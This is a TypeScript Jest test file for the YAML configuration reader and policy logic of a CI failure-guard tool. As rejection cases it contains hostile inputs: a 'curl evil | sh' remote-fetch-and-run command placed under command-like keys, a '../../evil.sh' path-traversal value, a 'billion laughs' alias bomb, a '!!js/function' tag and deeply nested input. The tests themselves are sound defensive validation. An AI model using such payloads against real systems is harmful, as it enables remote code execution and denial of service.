import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { readConfig } from '../../src/config/config.js'
import { emptyFileConfig, readFileConfig } from '../../src/config/file.js'
import { fileConfigSchema } from '../../src/config/file-schema.js'
import { policyOf } from '../../src/config/policy.js'

const name = '.github/pipeline-guard.yml'
const faultsOf = async (text: string): Promise<readonly string[]> => {
  const read = await readFileConfig(text, name)
  return read.kind === 'ok' ? [] : read.faults.map((fault) => `${fault.input} | ${fault.given} | ${fault.accepted}`)
}

const whole = `
expected-changes:
  - id: new-compiler        # decided in the planning
    since: "2026-03-01"
    series: job[build*].work
    reason: slower, but safer
    until: "2026-06-01"
series-names:
  - match: "build (*)"
    name: build
patterns:
  - id: ours/flaky-mirror
channels:
  - name: slack
    changes: [failure, recovery]
    branches: [main]
remedies:
  - category: network
    advice: Ask the network team.
    link: https://wiki.example.org/network
  - rule: net/reset
    workflow: mirror.yml
ignore:
  workflows: [.github/workflows/nightly.yml]
  jobs: [experimental]
  branches: ["dependabot/*"]
`

describe('the configuration file', () => {
  test('reads every section', async () => {
    const read = await readFileConfig(whole, name)
    expect(read).toMatchObject({
      kind: 'ok',
      value: {
        'expected-changes': [{ id: 'new-compiler', since: '2026-03-01', until: '2026-06-01' }],
        'series-names': [{ match: 'build (*)', name: 'build' }],
        remedies: [{ category: 'network' }, { rule: 'net/reset', workflow: 'mirror.yml' }],
        ignore: { jobs: ['experimental'] },
      },
    })
  })

  test.each(['', '# nothing yet\n', '{}'])('%j is no configuration', async (text) => {
    expect(await readFileConfig(text, name)).toEqual({ kind: 'ok', value: emptyFileConfig })
  })

  test('what a repository without the file has is what an empty one says', () => {
    expect(fileConfigSchema.parse({})).toEqual(emptyFileConfig)
  })

  test('names every fault at once', async () => {
    const faults = await faultsOf(`
expected-changes:
  - id: a
    since: soon
    series: job[build].work
    resaon: typo
remedies:
  - category: weather
    link: http://plain.example.org
  - advice: for nothing
  - category: test
  - rule: x
    workflow: ../../evil.sh
ignore: { jobs: build }
expected: []
`)
    expect(faults).toEqual([
      `${name}: expected-changes: 1: since | soon | a commit of 7 or more characters, or a date YYYY-MM-DD`,
      `${name}: expected-changes: 1: reason |  | a line of text`,
      `${name}: expected-changes: 1: resaon | resaon | no such key; known here are id, since, series, reason, until, workflow, branch`,
      expect.stringMatching(/remedies: 1: category \| weather \| one of dependency, test/),
      `${name}: remedies: 1: link | http://plain.example.org | an https URL`,
      expect.stringMatching(/remedies: 2 \| .* \| either a category or a rule/),
      expect.stringMatching(/remedies: 3 \| .* \| at least one of advice, link, workflow/),
      expect.stringMatching(/remedies: 4: workflow \| ..\/..\/evil.sh \| the file name of a workflow/),
      `${name}: ignore: jobs | build | a list`,
      expect.stringMatching(/: expected \| expected \| no such key; known here are expected-changes/),
    ])
  })

  test.each(['command', 'run', 'exec', 'script', 'shell'])('can never name a command: %s', async (key) => {
    expect(await faultsOf(`remedies:\n  - category: test\n    advice: x\n    ${key}: curl evil | sh\n`)).toEqual([
      `${name}: remedies: 1: ${key} | ${key} | no such key; this file can never name a command to execute`,
    ])
  })

  test.each([
    ['a list instead of a mapping', '- a\n', /a mapping/],
    ['broken YAML, with its line', 'a: [1\nb: 2\n', /pipeline-guard\.yml:\d/],
    ['a key given twice', 'patterns: []\npatterns: []\n', /pipeline-guard\.yml:2/],
    ['too long', `# ${'x'.repeat(300_000)}`, /256 KB/],
    ['nothing but brackets', '['.repeat(200_000), /nested at most 200 deep/],
    ['lists in lists', '- '.repeat(100_000), /nested at most 200 deep/],
    ['maps in maps', 'a: {b: '.repeat(20_000), /nested at most 200 deep/],
    ['as deep as may be, and of no use', `ignore: ${'['.repeat(190)}${']'.repeat(190)}`, /ignore/],
    [
      'a billion laughs',
      `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefgh'
        .split('')
        .map((key, index) => `${key}: &${key} [${Array(9).fill(`*${'abcdefgh'[index]}`).join(',')}]`)
        .join('\n')}\n`,
      /./,
    ],
    ['a tag', 'patterns: !!js/function "x"\n', /./],
  ])('%s', async (_, text, says) => expect((await faultsOf(text)).join('\n')).toMatch(says))

  test('never throws, whatever it is given', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.string({ unit: 'binary' }), fc.json()), async (text) => {
        expect(['ok', 'faulty']).toContain((await readFileConfig(text, name)).kind)
      }),
    )
  })
})

describe('policy', () => {
  const policy = async (given: Record<string, string>, text = '') => {
    const inputs = readConfig(given)
    const file = await readFileConfig(text, name)
    if (inputs.kind !== 'ok' || file.kind !== 'ok') throw new Error('faulty')
    return policyOf(inputs.config, file.value, 'companion', 'run')
  }

  test('takes over the inputs', async () => {
    const made = await policy({
      'fail-on': 'high',
      'fail-on-verdicts': 'failed, anomalous',
      'fail-on-categories': 'build,lint',
      'fail-on-tests': 'new',
      'notify-branches': 'main\nrelease/*',
      rerun: 'transient',
      'max-reruns': '2',
      'daily-reruns': '5',
      'job-status': 'Failure',
    })
    expect(made).toMatchObject({
      place: 'companion',
      scope: 'run',
      failOn: 'high',
      failOnVerdicts: ['anomalous', 'failed'],
      failOnCategories: ['build', 'lint'],
      failOnTests: 'new',
      notifyBranches: ['main', 'release/*'],
      rerun: 'transient',
      maxReruns: 2,
      dailyReruns: 5,
      jobStatus: 'failed',
    })
  })

  test('spends nothing and stops nothing unless asked', async () => {
    expect(await policy({})).toMatchObject({
      rerun: 'off',
      failOn: 'critical',
      notifyOn: 'change',
      maxReruns: 1,
      acknowledgements: [],
    })
  })

  test('takes over the file; what is ignored is acknowledged', async () => {
    const made = await policy({}, whole)
    expect(made.remedies).toEqual([
      { for: { category: 'network' }, advice: 'Ask the network team.', link: 'https://wiki.example.org/network' },
      { for: { rule: 'net/reset' }, workflow: 'mirror.yml' },
    ])
    expect(made.acknowledgements.map(({ id, series, workflow, branch }) => [id, series, workflow, branch])).toEqual([
      ['new-compiler', 'job[build*].work', undefined, undefined],
      ['ignore', '*', '.github/workflows/nightly.yml', undefined],
      ['ignore', '*', undefined, 'dependabot/*'],
      ['ignore', 'job[experimental]*', undefined, undefined],
    ])
  })

  test('an unknown word in a list is a fault', () => {
    expect(readConfig({ 'fail-on-categories': 'build,weather' })).toMatchObject({
      kind: 'faulty',
      faults: [{ input: 'fail-on-categories', given: 'build,weather' }],
    })
  })
})
